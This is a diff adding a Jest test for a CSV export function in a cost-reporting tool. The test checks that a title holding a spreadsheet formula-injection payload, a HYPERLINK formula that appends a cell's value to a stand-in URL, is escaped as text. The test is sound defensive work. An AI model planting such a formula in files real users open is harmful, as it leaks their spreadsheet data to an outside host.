@@ -300,4 +300,19 @@ describe('postsCsv', () => {
 		const net = rows.reduce((sum, r) => sum + Math.round(Number(r[col]) * 100), 0);
 		expect(net).toBe(-6440800);
 	});
+
+	it('postsCsv writes a title that a spreadsheet would run as a formula as text', () => {
+		const s = option();
+		s.posts['pd-city-futures'].title = '=HYPERLINK("http://x/?"&A2,"Click")';
+		const r = buildCostedOptionsReport(
+			{ structure: clt2020(), version: 1, builtIn: true },
+			[{ structure: s, version: 3, builtIn: false }],
+			{ generatedAt: '2021-01-20T10:00:00.000Z' }
+		);
+		const rows = Papa.parse<string[]>(postsCsv(r).trim(), { skipEmptyLines: true }).data;
+		const pd = rows.find((row) => row[3] === 'pd-city-futures')!;
+		expect(pd[4]).toBe(`'=HYPERLINK("http://x/?"&A2,"Click")`);
+		// Negative money stays a number a spreadsheet can add.
+		expect(rows.some((row) => row[13 + 4]?.startsWith('-'))).toBe(true);
+	});
 });
